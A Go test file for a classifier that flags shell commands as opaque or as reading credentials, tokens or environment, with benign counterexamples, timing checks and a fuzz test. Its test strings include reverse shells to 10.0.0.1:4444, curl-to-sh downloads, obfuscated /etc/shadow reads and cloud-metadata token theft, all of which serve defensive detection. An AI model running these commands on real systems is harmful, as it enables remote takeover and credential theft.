// SPDX-License-Identifier: Apache-2.0

package command

import (
	"runtime"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// What a command is given as its input decides what a shell does.
func TestReadsWith(t *testing.T) {
	for _, test := range []struct {
		command string
		in      Stdin
		want    string
	}{
		{"sh", Fed, "opaque"},
		{"sh", Terminal, ""},
		{"sh", NoInput, ""},
		{"/bin/bash -i", Terminal, ""},
		{"/bin/bash -i", Fed, "opaque"},
		{"bash -s", Fed, "opaque"},
		{"bash -", Fed, "opaque"},
		{"bash -s -- --verbose", Fed, "opaque"},
		{"bash --norc -o pipefail", Fed, "opaque"},
		{"su postgres", Fed, "opaque"},
		{"busybox ash", Fed, "opaque"},
		{"env FOO=1 sh", Fed, "opaque"},
		{"setsid bash", Fed, "opaque"},
		{"sudo -u app bash", Fed, "opaque"},
		{"bash /dev/stdin", Fed, "opaque"},
		{"python3", Fed, "opaque"},
		{"python3 -", Fed, "opaque"},
		{"node", Terminal, ""},
		{"perl", Fed, "opaque"},
		{"xargs cat", Fed, "opaque"},
		{"chroot /host", Terminal, "opaque"},
		{"chroot /host bash", Terminal, "opaque"},
		{"nsenter -t 1 -m -u -i -n -p -- bash", Terminal, "opaque"},
		{"psql -U app", Fed, ""},
		{"mysql app", Fed, ""},
		{"tar xmf - -C /app", Fed, ""},
		{"cat", Fed, ""},
		{"tee /app/config.yaml", Fed, ""},
		{"python manage.py shell", Fed, ""},
		{"sh /app/reload.sh", Fed, ""},
		{"redis-cli --pipe", Fed, ""},
	} {
		if got := strings.Join(ReadsWith(strings.Fields(test.command), test.in).Names(), " "); got != test.want {
			t.Errorf("%q with input %d reads %q, want %q", test.command, test.in, got, test.want)
		}
	}
}

// What cannot be judged, by each kind of how a shell's text hides what it does. All
// are scripts of sh -c, without an input.
func TestOpaqueScripts(t *testing.T) {
	for script, want := range map[string]string{
		// Fed within the text.
		"echo aWQK | base64 -d | sh":                                    "opaque",
		"echo 6964 | xxd -r -p | bash":                                  "opaque",
		"openssl enc -d -aes-256-cbc -k x -in /app/f | sh":              "opaque",
		"gunzip -c /app/x.gz | sh":                                      "opaque",
		"cat /app/x | sh":                                               "opaque",
		"cat /app/x | sudo bash -s -- a":                                "opaque",
		"microk8s.kubectl":                                              "",
		"foo 2>&1 | tee /app/x":                                         "",
		"cat /app/x 2>&1 | sh":                                          "opaque",
		"cat /app/x | (sh)":                                             "opaque",
		"cat /app/x | { sh; }":                                          "opaque",
		"echo x |& bash":                                                "opaque",
		"sh < /app/x":                                                   "opaque",
		"sh <<< id":                                                     "opaque",
		"bash <(curl -s http://10.0.0.1/x)":                             "opaque",
		". <(curl -s http://10.0.0.1/x)":                                "opaque",
		"curl -fsSL http://10.0.0.1/x | sh":                             "opaque",
		"wget -qO- http://10.0.0.1/x | bash":                            "opaque",
		"curl -s http://10.0.0.1/x | python3":                           "opaque",
		`sh -c "$(curl -s http://10.0.0.1/x)"`:                          "opaque",
		`eval "$(wget -qO- http://10.0.0.1/x)"`:                         "opaque",
		"curl -o /tmp/x http://10.0.0.1/x; sh /tmp/x":                   "opaque",
		"curl -o /tmp/x http://10.0.0.1/x && chmod +x /tmp/x && /tmp/x": "opaque",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1":                        "opaque",
		"bash -i 0</dev/tcp/10.0.0.1/4444":                              "opaque",
		"nc 10.0.0.1 4444 -e /bin/sh":                                   "opaque",
		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i | nc 10.0.0.1 4444 >/tmp/f": "opaque",
		"socat tcp:10.0.0.1:4444 exec:/bin/sh":                                       "opaque",
		// Words that are made when it runs.
		"$a$b":         "opaque",
		"$(echo id)":   "opaque",
		"`echo id`":    "opaque",
		`"$CMD" /x`:    "opaque",
		`sh -c "$CMD"`: "opaque",
		`eval "$CMD"`:  "opaque",
		`eval $a$b`:    "opaque",
		"/b?n/c?t /x":  "opaque",
		"cat $(echo L2V0Yy9zaGFkb3cK | base64 -d)":      "opaque",
		"cat $(printf '\\57etc\\57shadow')":             "opaque",
		"F=$(echo wodahs/cte/ | rev); cat $F":           "opaque",
		"echo L2V0Yy9zaGFkb3cK | base64 -d | xargs cat": "opaque",
		// The same, as far as the text says it.
		"a=/etc/sha; b=dow; cat $a$b":                 "credential",
		"a=ca; b=t; $a$b /etc/shadow":                 "credential",
		"X=shadow; cat /etc/${X}":                     "credential",
		"cat${IFS}/etc/shadow":                        "credential",
		"cat$IFS/etc/shadow":                          "credential",
		"{cat,/etc/shadow}":                           "credential",
		"cat /etc/{passwd,shadow}":                    "credential",
		"cat $'/etc/sh\\x61dow'":                      "credential",
		"$'\\143at' /etc/shadow":                      "credential",
		"cat /etc/$(true)shadow; cat /etc/shadow":     "credential",
		"cat ${F:-/etc/shadow}":                       "credential",
		"C='cat /etc/shadow'; $C":                     "credential",
		"cat <<EOF | tee /x\na\nEOF\ncat /etc/shadow": "credential",
		"(cd /etc; cat shadow)":                       "credential",
		"echo \"$(cat /etc/shadow)\"":                 "credential",
		`exec "$@" _ cat /etc/shadow`:                 "credential",
		// Code.
		"python3 -c 'print(1)'":                                 "opaque",
		"python3.11 -Sc 'print(1)'":                             "opaque",
		"perl -e 'print 1'":                                     "opaque",
		"perl -MMIME::Base64 -e 'print 1'":                      "opaque",
		"perl -ne 'print' /app/x":                               "opaque",
		"ruby -rsocket -e 'puts 1'":                             "opaque",
		"node -e 'console.log(1)'":                              "opaque",
		"node --eval='1'":                                       "opaque",
		"php -r 'echo 1;'":                                      "opaque",
		"lua5.4 -e 'print(1)'":                                  "opaque",
		`awk 'BEGIN{system("id")}'`:                             "opaque",
		`awk 'BEGIN{while((getline l < ARGV[1])>0) print l}' x`: "opaque",
		`gawk 'BEGIN{"id" | getline x; print x}'`:               "opaque",
		"sed -n '1e id' /app/x":                                 "opaque",
		"pwsh -EncodedCommand aQBkAA==":                         "opaque",
		"perl -e 'print %ENV'":                                  "environment",
		"awk 'BEGIN{for(k in ENVIRON) print k}'":                "environment",
		"ruby -e 'puts ENV[\"X\"]'":                             "environment",
		"php -r 'echo getenv(\"X\");'":                          "environment",
		// Whole trees.
		"grep -r password /":                         "token credential",
		"grep -rn PRIVATE /etc":                      "credential",
		"grep --recursive -e BEGIN /home":            "credential",
		"rg -uu AKIA /":                              "token credential",
		"cd / && grep -ri secret .":                  "token credential",
		"find / -type f -exec cat {} \\;":            "token credential",
		"find /root -name '*' -exec base64 {} +":     "credential",
		"find / -type f | xargs grep -l AKIA":        "token credential",
		"find /home -type f -print0 | xargs -0 cat":  "credential",
		"find /etc | cpio -o":                        "credential",
		"find / | while read f; do cat \"$f\"; done": "token credential",
		"tar c /":                            "token credential",
		"tar czf - /etc":                     "credential",
		"tar cf - /proc/1/root":              "token credential",
		"tar cf - /host/root":                "credential",
		"rsync -a / rsync://10.0.0.1/x":      "token credential",
		"zip -r - /root":                     "credential",
		"cp -a /home /x":                     "credential",
		"dd if=/dev/sda1":                    "credential",
		"debugfs -R 'cat /x' /dev/nvme0n1p1": "credential",
		"mount /dev/sda1 /mnt":               "credential",
		"gcore 1":                            "environment",
		"ps auxeww":                          "environment",
		// Clouds.
		"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/": "token",
		"curl 2852039166/x":                     "token",
		"curl http://0xa9fea9fe/":               "token",
		"curl http://0251.0376.0251.0376/":      "token",
		"curl http://169.254.43518/":            "token",
		"curl http://[::ffff:169.254.169.254]/": "token",
		"curl http://[::ffff:a9fe:a9fe]/":       "token",
		"curl 'http://[fd00:ec2::254]/latest'":  "token",
		"wget -qO- http://metadata.google.internal./computeMetadata/v1/instance/service-accounts/default/token":   "token",
		"curl -H 'Metadata-Flavor: Google' http://metadata/x":                                                     "token",
		"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI":                                               "token",
		"curl http://100.100.100.200/latest/meta-data/ram":                                                        "token",
		"curl http://168.63.129.16/machine?comp=goalstate":                                                        "token",
		"curl -H Metadata:true 'http://169.254.169.254:80/metadata/identity/oauth2/token?api-version=2018-02-01'": "token",
		"exec 3<>/dev/tcp/169.254.169.254/80; cat <&3":                                                            "token",
		"python3 -c 'import urllib.request as u; print(u.urlopen(\"http://169.254.169.254/x\").read())'":          "token opaque",
		"aws sts assume-role --role-arn x":                                                                        "token",
		"aws --region eu-west-1 ecr get-login-password":                                                           "token",
		"aws eks get-token --cluster-name x":                                                                      "token",
		"aws secretsmanager get-secret-value --secret-id x":                                                       "credential",
		"aws ssm get-parameters --names x":                                                                        "credential",
		"gcloud auth print-access-token":                                                                          "token",
		"gcloud auth application-default print-access-token":                                                      "token",
		"az account get-access-token":                                                                             "token",
		"kubectl get secret db -o yaml":                                                                           "credential",
		"kubectl -n shop get secrets":                                                                             "credential",
		"kubectl get pods,secrets -A":                                                                             "credential",
		"kubectl get secret/db":                                                                                   "credential",
		"kubectl get --raw /api/v1/secrets":                                                                       "credential",
		"kubectl create token web":                                                                                "token",
		"kubectl config view --raw":                                                                               "credential",
		"k3s kubectl get secrets -A":                                                                              "credential",
		"oc whoami -t":                                                                                            "token",
		"vault kv get secret/db":                                                                                  "credential",
		"etcdctl get / --prefix --keys-only":                                                                      "credential",
		// Files of distributions.
		"cat /var/lib/rancher/k3s/server/node-token":                                               "credential",
		"cat /var/lib/rancher/k3s/server/token":                                                    "credential",
		"cat /host/var/lib/rancher/rke2/server/token":                                              "credential",
		"cat /var/lib/rancher/rke2/agent/kubelet.kubeconfig":                                       "credential",
		"cat /var/lib/k0s/pki/admin.conf":                                                          "credential",
		"cat /var/snap/microk8s/current/credentials/client.config":                                 "credential",
		"cat /system/secrets/kubernetes/kube-apiserver/x":                                          "credential",
		"cat /var/lib/kubelet/config.json":                                                         "credential",
		"cat /host/var/lib/kubelet/pods/1/volumes/kubernetes.io~secret/db/password":                "credential",
		"cat /host/var/lib/kubelet/pods/1/volumes/kubernetes.io~projected/kube-api-access-x/token": "token",
		"strings /var/lib/etcd/member/snap/db":                                                     "credential",
		"cat ~/.vault-token":                                                                       "credential",
		"cat /vault/secrets/db":                                                                    "credential",
		"cat /mnt/secrets-store/db-password":                                                       "credential",
		"cat /etc/secrets/db":                                                                      "credential",
		"cat /var/run/secrets/azure/tokens/azure-identity-token":                                   "credential",
	} {
		if got := strings.Join(ReadsOf([]string{"sh", "-c", script}).Names(), " "); got != want {
			t.Errorf("%s: reads %q, want %q", script, got, want)
		}
	}
}

// What honest software and people run, and what nothing hides in.
func TestNothingOpaque(t *testing.T) {
	for _, script := range []string{
		"exec foo", "exec /app/server --port 80", "ls", "ls -la /app", "cat /etc/hostname", "id", "hostname", "ps aux", "ps -ef", "df -h", "top -b -n 1", "date",
		"pg_isready -U $POSTGRES_USER -d $POSTGRES_DB", "exec pg_isready -U \"postgres\" -h 127.0.0.1 -p 5432", "mysqladmin ping -p\"$MYSQL_ROOT_PASSWORD\"",
		"redis-cli -a $REDIS_PASSWORD ping | grep PONG", "test $(redis-cli ping) = PONG", "[ $(cat /tmp/ready) = 1 ]", "[[ -f /tmp/ready ]]", "cat /tmp/healthy",
		"curl -sf http://localhost:$PORT/health || exit 1", "wget -q --spider http://127.0.0.1:8080/", "nc -z localhost 5432", "nc -zv db 5432",
		"kill -HUP 1", "kill -TERM $(cat /run/app.pid)", "nginx -t && nginx -s reload", "for i in 1 2 3; do echo $i; sleep 1; done", "until nc -z db 5432; do sleep 1; done",
		"$JAVA_HOME/bin/java -version", "\"$KAFKA_HOME\"/bin/kafka-topics.sh --list", "${CATALINA_HOME}/bin/catalina.sh version", "python --version", "node -v",
		"python manage.py migrate", "node server.js", "php artisan cache:clear", "php -v", "ruby bin/rails db:migrate", "java -jar app.jar", "npm run build", "perl /app/x.pl",
		"ps aux | grep nginx | awk '{print $2}'", "awk '{ if ($1 > 5) print $2 }' /app/x", "sed -i 's/a/b/g' /app/x", "sed -n '1,5p' /app/x", "sed 's/one/two/;s/e f/g/' /app/x", "sed -e 's#/a#/b#' /app/x",
		"tail -n 100 /var/log/app.log | grep ERROR", "grep -r TODO /app", "grep -rn error /var/log", "grep root /etc/passwd", "find /app -name '*.py' | xargs wc -l", "find / -name nginx.conf", "find /tmp -mtime +1 -delete", "find /var/log -name '*.gz' -exec rm {} \\;",
		"tar czf - /data", "tar cf - /var/lib/postgresql/data", "zip -r /data/x.zip /data", "rsync -a /data/ /backup/", "mysqldump -uroot -p$MYSQL_ROOT_PASSWORD app | gzip > /backup/x.sql.gz", "pg_dump app | gzip",
		"echo '{\"a\": 1}' | jq .a", "echo hello | base64", "printf 'a\\n' > /app/x", "base64 -d /app/x > /app/y", "date +%s", "cat /app/config.yaml | sed 's/a/b/' > /app/x",
		"cat /etc/resolv.conf", "dig @169.254.20.10 kubernetes.default", "nslookup kubernetes.default 169.254.20.10", "ping -c 1 169.254.169.254", "iptables -A OUTPUT -d 169.254.169.254 -j DROP", "curl http://10.0.0.1/", "curl http://1.2.3.4:8080/metadata",
		"kubectl get pods", "kubectl config view", "kubectl auth can-i get pods", "kubectl rollout status deploy/x", "aws s3 ls", "aws sts get-caller-identity", "gcloud config list", "az account show", "vault status", "etcdctl endpoint health", "helm list",
		"if [ -x /usr/bin/foo ]; then foo; fi", "while true; do sleep 1; done", "set -euo pipefail; app check", "A=1 B=2 app", "x=$((1+2)); echo $x", "echo ${PATH}", "test -e /x && echo ok", "cd /app && ./run.sh", "sh /app/healthcheck.sh", "bash -x /scripts/check.sh", "/docker-entrypoint.sh true", ". /etc/profile", "source /app/venv/bin/activate && python x.py",
		"mongosh --quiet --eval 'db.adminCommand(\"ping\")'", "psql -c 'select 1'", "rabbitmq-diagnostics -q ping", "cqlsh -e 'describe keyspaces'", "cat <<EOF > /app/x\nhello world\nEOF", "sudo -u app ls", "timeout 5 curl -sf localhost", "nice -n 10 du -sh /data", "ls /etc/*.conf", "rm -rf /tmp/cache", "echo $((RANDOM % 10))", "openssl version", "openssl x509 -noout -dates -in /tls/tls.crt",
		"df /dev/sda1", "lsblk", "command -v getent", "cat /proc/1/status", "cat /proc/meminfo", "stat /data", "du -sh /var/lib/etcd", "tr a-z A-Z < /app/x", "ls | xargs -n 1 echo", "gunzip /data/x.gz", "xargs -a /app/list rm",
	} {
		if got := ReadsOf([]string{"sh", "-c", script}); got != 0 {
			t.Errorf("%s: reads %q", script, got.Names())
		}
	}
}

// What is longer or deeper than is looked at is not harmless.
func TestOpaqueLength(t *testing.T) {
	for name, words := range map[string][]string{
		"a long script":  {"sh", "-c", strings.Repeat("true;", 4<<10) + "cat /etc/shadow"},
		"many words":     append(strings.Fields(strings.Repeat("a ", 10<<10)), "/etc/shadow"),
		"a deep one":     {"sh", "-c", strings.Repeat("eval ", 40) + "id"},
		"many in others": {"sh", "-c", strings.Repeat("$(echo ", 100) + "id"},
	} {
		if got := ReadsOf(words); got&Opaque == 0 {
			t.Errorf("%s reads %q", name, got.Names())
		}
	}
}

// maxJudged is what judging a command of 16 KiB may cost of one core, however it is
// made. Where another program runs on the same core's other thread, each takes twice
// its time.
const maxJudged = 2 * 10 * time.Millisecond

// What a command costs to judge grows with its length, and is bounded.
func TestReadsCost(t *testing.T) {
	var worst time.Duration
	for _, part := range []string{
		"$(", "${", "`", "a$", "$((", "<(", "{a,b}", "{a,{", "a,", "{,", "'", "\"", "\\", "# ", "#", "$'\\x41", "a=$a$a;", "a=bb;$a", "${a:-/x}", "eval ", "sh -c ", "env ", "xargs ",
		"sudo sh -c '", "1.2.3.4 ", "0x1.", "/a", "/*", "*/", "?", "[a", "| ", "||", "&& ", ";", "<", "<<", ">", "find / -exec ", "grep -r / ", "tar c ", "cd x;", "cd /x;", "for a in b; do ",
		"a=b ", "(", ")", "$@ ", "kubectl get ", "x@y:z/", "systemsystem(", "|  ", "e ", "/e ", "e", "$IFS", "${IFS}",
	} {
		script := strings.Repeat(part, maxCommand/len(part))
		for _, words := range [][]string{{"sh", "-c", script}, {"awk", script}, {"sed", script}, {"python", "-c", script}, strings.Fields(script), {"curl", script}} {
			used := judgingCost(words)
			worst = max(worst, used)
			if used > maxJudged {
				t.Errorf("%s of %q, 16 KiB: %s", words[0], part, used)
			}
		}
	}
	t.Logf("the worst takes %v", worst)
}

// judgingCost is the processor's time that judging takes, the least of some tries or the first
// that is not above what it may be.
func judgingCost(words []string) time.Duration {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	least := time.Hour
	for range 9 {
		var before, after unix.Timespec
		_ = unix.ClockGettime(unix.CLOCK_THREAD_CPUTIME_ID, &before)
		ReadsWith(words, Fed)
		_ = unix.ClockGettime(unix.CLOCK_THREAD_CPUTIME_ID, &after)
		if least = min(least, time.Duration(after.Nano()-before.Nano())); least <= maxJudged {
			break
		}
	}
	return least
}

// FuzzReadsCost looks for a command that costs more.
func FuzzReadsCost(f *testing.F) {
	for _, part := range []string{"$(", "a=$a$a;", "{a,b}", "/* ", "e ", "<(x) "} {
		f.Add("sh -c ", part)
	}
	f.Fuzz(func(t *testing.T, head, part string) {
		if part == "" || len(part) > 1<<10 || len(head) > 1<<10 {
			return
		}
		script := head + strings.Repeat(part, maxCommand/len(part))
		for _, words := range [][]string{{"sh", "-c", script}, strings.Fields(script)} {
			// Coverage is counted while fuzzing, which takes several times as long.
			if used := judgingCost(words); used > 10*maxJudged {
				t.Errorf("%q, %q: %s", head, part, used)
			}
		}
	})
}
